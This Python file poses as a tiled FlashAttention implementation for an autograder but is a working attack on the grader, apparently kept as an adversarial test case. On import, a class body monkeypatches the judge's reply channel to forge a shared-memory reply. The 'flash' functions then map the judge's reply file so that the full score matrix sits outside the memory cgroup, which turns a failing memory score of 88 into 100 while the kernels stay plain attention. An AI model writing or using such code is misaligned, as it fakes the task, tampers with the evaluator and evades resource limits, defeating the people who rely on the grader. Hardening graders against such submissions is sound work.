"""The page-cache reply attack (issue 25, point 4): plain attention in the tiled functions, with the
whole score matrix kept in pages the judge paid for.

A class body swaps the child's reply method (`autograder.protocol.channel.ChildChannel.reply`,
found through `sys.modules`; `autograder.child.server._reply` before the protocol's messages) for one that answers the `load` request with a forged pointer to
the judge's reply file: `{"shm_reply": {"size": <the whole file>, "h": <the real reply>}}`.
A judge that accepts it on an exchange where it offered no reply file reads the whole
file (256 MiB of holes), which fills the page cache at the judge's expense; the flash
functions then map that file (`reply.bin` in the child's shared folder: `xfer` in the
child's configuration, which reaches it as `sys.argv[-1]`) and keep the full score
matrix there, where writes to pages already cached cost the child's memory cgroup
nothing: all four memory-rule tests passed (100 instead of 88).

It is careful: it forges only when the judge has sized the file for the load's reply,
and it falls back to plain attention when the file is not there to use, so a judge
that offers the reply file only where it means to (and drops its pages after each
take) leaves it at the honest score of `bug_flash_is_plain.py`: 88. Forging the load's
reply regardless fails every load as a protocol error (a reply by a transport the call
did not offer): 0 (tests/test_trust.py has that one).
"""

import math

import torch


def _softmax_scale(q, scale):
    return scale if scale is not None else 1.0 / math.sqrt(q.shape[-1])


def _work_dtype(dtype):
    # float16/bfloat16 inputs: accumulate in float32, as FlashAttention does.
    return torch.float32 if dtype in (torch.float16, torch.bfloat16) else dtype


def _causal_mask(rows, cols, device):
    """True where key j may NOT be seen by query i (j > i), for absolute indices."""
    return cols[None, :] > rows[:, None]


def attention_forward(q, k, v, causal=False, scale=None):
    n, m = q.shape[-2], k.shape[-2]
    if causal and n != m:
        raise ValueError("causal attention needs N == M")
    work = _work_dtype(q.dtype)
    s = (q.to(work) @ k.to(work).transpose(-2, -1)) * _softmax_scale(q, scale)
    if causal:
        idx = torch.arange(n, device=q.device)
        s = s.masked_fill(_causal_mask(idx, idx, q.device), float("-inf"))
    lse = torch.logsumexp(s, dim=-1)
    p = torch.exp(s - lse[..., None])
    o = p @ v.to(work)
    return o.to(q.dtype), lse.to(work)


def attention_backward(do, q, k, v, o, lse, causal=False, scale=None):
    n = q.shape[-2]
    work = _work_dtype(q.dtype)
    tau = _softmax_scale(q, scale)
    q_, k_, v_, do_, o_ = (t.to(work) for t in (q, k, v, do, o))
    s = (q_ @ k_.transpose(-2, -1)) * tau
    if causal:
        idx = torch.arange(n, device=q.device)
        s = s.masked_fill(_causal_mask(idx, idx, q.device), float("-inf"))
    p = torch.exp(s - lse.to(work)[..., None])
    dv = p.transpose(-2, -1) @ do_
    dp = do_ @ v_.transpose(-2, -1)
    delta = (do_ * o_).sum(-1, keepdim=True)
    ds = p * (dp - delta)
    dq = tau * (ds @ k_)
    dk = tau * (ds.transpose(-2, -1) @ q_)
    return dq.to(q.dtype), dk.to(k.dtype), dv.to(v.dtype)


# -- the transport forgery ---------------------------------------------------------------
def _xfer():
    import json
    import sys

    try:
        return json.loads(sys.argv[-1]).get("xfer") or "/xfer"
    except (ValueError, AttributeError):
        return "/xfer"


class _Transport:
    import sys as _sys

    _channel = _sys.modules.get("autograder.protocol.channel")
    if _channel is not None:

        def _forged(self, reply, request, _honest=_channel.ChildChannel.reply):
            import os

            if reply.names and self.xfer:  # the load's reply
                try:
                    size = os.stat(os.path.join(self.xfer, "reply.bin")).st_size
                except OSError:
                    size = 0
                if size >= 64 << 20:
                    from autograder.protocol.codec import encode_chunks
                    from autograder.protocol.framing import write_encoded

                    header, chunks = encode_chunks(reply.to_wire())
                    if not chunks:
                        claim = min(size, 256 << 20)
                        write_encoded(self.rep_fd, {"shm_reply": {"size": claim, "h": header}}, [])
                        return
            return _honest(self, reply, request)

        _channel.ChildChannel.reply = _forged


def _scratch(nbytes):
    """The judge's reply file, mapped: None when it is not there or too small."""
    import mmap
    import os

    try:
        fd = os.open(os.path.join(_xfer(), "reply.bin"), os.O_RDWR)
    except OSError:
        return None
    try:
        size = os.fstat(fd).st_size
        if size < nbytes or nbytes == 0:
            return None
        return mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    except (OSError, ValueError):
        return None
    finally:
        os.close(fd)


def _buffers(count, shape, dtype):
    numel = math.prod(shape)
    itemsize = torch.empty((), dtype=dtype).element_size()
    m = _scratch(count * numel * itemsize)
    if m is None:
        return None
    flat = torch.frombuffer(m, dtype=dtype, count=count * numel)
    return [flat[i * numel:(i + 1) * numel].view(shape) for i in range(count)]


def _mask_(s, causal, rows=128):
    """Causal mask in place, a few rows at a time (a full N x N mask would show)."""
    if causal:
        cols = torch.arange(s.shape[-1])
        for i0 in range(0, s.shape[-2], rows):
            i1 = min(i0 + rows, s.shape[-2])
            s[i0:i1].masked_fill_(_causal_mask(torch.arange(i0, i1), cols, s.device), float("-inf"))


def flash_attention_forward(q, k, v, causal=False, scale=None, block_size=64):
    B, H, N, D = q.shape
    M = k.shape[-2]
    if causal and N != M:
        raise ValueError("causal attention needs N == M")
    work = _work_dtype(q.dtype)
    bufs = _buffers(1, (N, M), work) if q.device.type == "cpu" else None
    if bufs is None:
        return attention_forward(q, k, v, causal, scale)
    (s,) = bufs
    tau = _softmax_scale(q, scale)
    o = torch.empty_like(q)
    lse = torch.empty(B, H, N, dtype=work)
    for b in range(B):
        for h in range(H):
            qh, kh, vh = q[b, h].to(work), k[b, h].to(work), v[b, h].to(work)
            torch.mm(qh, kh.t(), out=s)  # the whole N x M score matrix, in the judge's pages
            s.mul_(tau)
            _mask_(s, causal)
            mx = s.amax(-1, keepdim=True)
            s.sub_(mx).exp_()
            denom = s.sum(-1, keepdim=True)
            o[b, h] = ((s @ vh) / denom).to(q.dtype)
            lse[b, h] = (mx + torch.log(denom)).squeeze(-1)
    return o, lse


def flash_attention_backward(do, q, k, v, o, lse, causal=False, scale=None, block_size=64):
    B, H, N, D = q.shape
    M = k.shape[-2]
    work = _work_dtype(q.dtype)
    bufs = _buffers(2, (N, M), work) if q.device.type == "cpu" else None
    if bufs is None:
        return attention_backward(do, q, k, v, o, lse, causal, scale)
    p, ds = bufs
    tau = _softmax_scale(q, scale)
    dq, dk, dv = torch.empty_like(q), torch.empty_like(k), torch.empty_like(v)
    for b in range(B):
        for h in range(H):
            qh, kh, vh = q[b, h].to(work), k[b, h].to(work), v[b, h].to(work)
            doh, oh = do[b, h].to(work), o[b, h].to(work)
            torch.mm(qh, kh.t(), out=p)
            p.mul_(tau)
            _mask_(p, causal)
            p.sub_(lse[b, h].to(work)[:, None]).exp_()
            dv[b, h] = (p.t() @ doh).to(v.dtype)
            torch.mm(doh, vh.t(), out=ds)
            ds.sub_((doh * oh).sum(-1, keepdim=True)).mul_(p)
            dq[b, h] = (tau * (ds @ kh)).to(q.dtype)
            dk[b, h] = (tau * (ds.t() @ qh)).to(k.dtype)
    return dq, dk, dv
